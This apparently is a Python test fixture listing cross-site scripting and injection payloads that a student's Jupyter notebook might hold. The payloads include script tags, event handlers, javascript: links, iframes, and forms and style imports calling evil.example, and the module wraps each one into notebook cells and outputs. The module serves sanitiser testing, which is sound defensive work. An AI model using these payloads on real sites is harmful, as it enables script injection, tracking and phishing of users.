"""What a submission would like to do to a person who opens it: scripts, handlers, links and frames."""

from __future__ import annotations

from typing import Any

RUN = "alert(document.domain)"
MARKDOWN = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<SCRIPT SRC=//evil.example/x.js>{RUN}</SCRIPT>",
    "a script behind a heading": f"# Fine\n\n<script>{RUN}</script>",
    "a broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "the end of another script": f"</script><script>{RUN}</script>",
    "a handler": f"<img src=x onerror={RUN}>",
    "a handler without spaces": f"<svg/onload={RUN}>",
    "a handler over lines": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "a handler on a fold": f"<details open ontoggle={RUN}>x</details>",
    "a handler on focus": f"<input autofocus onfocus={RUN}>",
    "an SVG": f"<svg><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    "an SVG that animates": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "MathML": f"<math><maction actiontype='statusline' xlink:href='javascript:{RUN}'>x</maction></math>",
    "a link that runs": f"[click](javascript:{RUN})",
    "a link that runs, in capitals": f"[click](JaVaScRiPt:{RUN})",
    "a link that runs, with a tab": f"[click](java\tscript:{RUN})",
    "a link that runs, spelled out": f"[click](&#106;avascript:{RUN})",
    "a link that runs, by reference": f"[click][1]\n\n[1]: javascript:{RUN}",
    "a link that runs, in angles": f"<javascript:{RUN}>",
    "a link of data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a link of VBScript": "[click](vbscript:msgbox(1))",
    "a link to a file": "[click](file:///etc/passwd)",
    "a picture from elsewhere": "![x](https://evil.example/pixel.png)",
    "a picture of data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "a picture by reference": "![x][1]\n\n[1]: //evil.example/pixel.png",
    "an attachment": "![x](attachment:a.svg)",
    "a frame": "<iframe src='https://evil.example/'></iframe>",
    "a frame with its page": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "an object": "<object data='https://evil.example/x.swf'></object><embed src=x>",
    "a form": "<form action='https://evil.example/'><button>more points</button></form>",
    "a style sheet": "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "a style": "<p style='background:url(https://evil.example/x)'>x</p>",
    "a base": "<base href='https://evil.example/'>",
    "a redirect": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "a comment that never ends": "<!-- x",
    "a comment that ends": f"<!--><script>{RUN}</script>-->",
    "a text area that never ends": "<textarea>",
    "a table cell": f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    "a code block that ends early": f"````\n<script>{RUN}</script>\n```\n<script>{RUN}</script>",
    "a formula with a link": rf"$\href{{javascript:{RUN}}}{{x}}$",
    "a formula with a picture": r"$\unicode{x} \style{background:url(//evil.example)}{x}$",
    "a formula with a class": r"\(\class{x}{\cssId{y}{z}}\)",
    "an entity": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "NUL in a tag": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "text turned round": "\u202e<script>\u202c",
}
"""Markdown of a student's."""

WORDS = {
    "a script in words": f"<script>{RUN}</script>",
    "the end of an attribute": f"\"'><img src=x onerror={RUN}>",
    "the end of a comment": f"--><script>{RUN}</script>",
    "the end of a block": f"]]></style></svg></script><script>{RUN}</script>",
    "a script in backticks": f"`<script>{RUN}</script>`",
    "a template": "{{ 7 * 7 }} {% raw %} ${x} %(y)s {0}",
    "colours of a terminal": "\x1b[31m\x1b]8;;https://evil.example\x07x\x1b[0m",
    "letters that XML hasn't got": "\0\x01\x08\x0b\ufffe\uffff\ud800",
    "words turned round in words": "\u202eadA\u2066x\u200f",
}
"""Names, messages and values of a student's."""


def cells(texts: dict[str, str]) -> list[dict[str, Any]]:
    """Each text as Markdown, as a raw cell, as code, and as an output of the code."""
    found: list[dict[str, Any]] = []
    for text in texts.values():
        data = {"text/html": text, "image/svg+xml": text, "text/markdown": text, "application/javascript": "alert(1)"}
        outputs: list[dict[str, Any]] = [
            {"output_type": "display_data", "data": data, "metadata": {}},
            {"output_type": "stream", "name": "stderr", "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
        ]
        found += [
            {
                "cell_type": "markdown",
                "metadata": {"tags": [text]},
                "source": text,
                "attachments": {"a.svg": {"x": text}},
            },
            {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": text},
            {"cell_type": "code", "metadata": {"name": text}, "source": text, "outputs": outputs, "execution_count": 1},
        ]
    return found
